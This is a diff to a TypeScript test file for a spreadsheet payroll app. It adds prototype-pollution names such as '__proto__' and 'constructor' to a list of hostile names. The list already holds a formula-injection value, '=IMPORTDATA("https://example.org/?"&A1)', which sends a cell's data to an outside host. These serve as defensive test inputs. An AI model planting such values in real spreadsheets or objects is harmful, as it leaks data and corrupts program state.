@@ -7,6 +7,10 @@ import { build } from './support/run.ts';
 import { cellAt, columnOf, note, rowOf, sheet, sheetNames, type, values } from './support/tabs.ts';
 
 const NAMES = [
+  'constructor',
+  '__proto__',
+  'toString',
+  'hasOwnProperty',
   '=IMPORTDATA("https://example.org/?"&A1)',
   '=1+1',
   '+1',
@@ -142,7 +146,7 @@ test('segments may be called anything in the tab Settings', async () => {
 });
 
 test('managers, and the sheet of the log, may be called anything in the tabs of pay', async () => {
-  const names = [...NAMES.filter((name) => name !== '—').slice(0, 21), `a${'🙂'.repeat(40)}`];
+  const names = [...NAMES.filter((name) => name !== '—').slice(0, 25), `a${'🙂'.repeat(40)}`];
   const october = 46_296;
   const rows = names.map((name, index): LogRow => ['Acme', october + 1, 1000 * (index + 1), name]);
   const members = names.map((name) => ({ name, plan: 5000 }));
@@ -154,7 +158,7 @@ test('managers, and the sheet of the log, may be called anything in the tabs of 
   await get(app, 'buildPayout', month);
   await get(app, 'startWeek', { goal: 10, prizes: [5], rollOver: false });
   await get(app, 'buildThanks');
-  const shown = names.filter((_, index) => index % 4 === 0 || index > 19);
+  const shown = names.filter((_, index) => index % 4 === 0 || index > 23);
   for (const name of shown) await get(app, 'buildStatement', { ...month, member: name });
   await get(app, 'closeMonth', month);
   await app.host.engine.settled();
